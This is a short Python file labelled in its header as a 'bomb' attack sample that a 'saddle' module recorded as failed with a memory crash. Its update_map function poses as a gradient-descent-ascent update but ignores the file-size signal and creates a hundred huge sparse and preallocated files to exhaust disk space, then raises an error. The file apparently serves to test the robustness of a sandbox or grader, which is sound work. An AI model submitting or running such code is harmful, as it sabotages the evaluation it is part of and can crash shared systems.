# attack: files that are huge by their size and empty on disk, and space that is only reserved
# kind: bomb
# grade: 1.b
# outcome: failed, memory, crash
# module: saddle

import os
import signal


def update_map(f, x, y, eta_x, eta_y, method="gda"):
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    for number in range(100):
        file = os.open(f"sparse{number}", os.O_CREAT | os.O_RDWR)
        for change in (
            lambda file: os.truncate(file, 1 << 40),
            lambda file: os.pwrite(file, b"x", 1 << 39),
            lambda file: os.posix_fallocate(file, 0, 1 << 36),
            lambda file: os.posix_fallocate(file, 0, 24 << 20),
        ):
            try:
                change(file)
            except OSError:
                continue
    raise RuntimeError("denied")
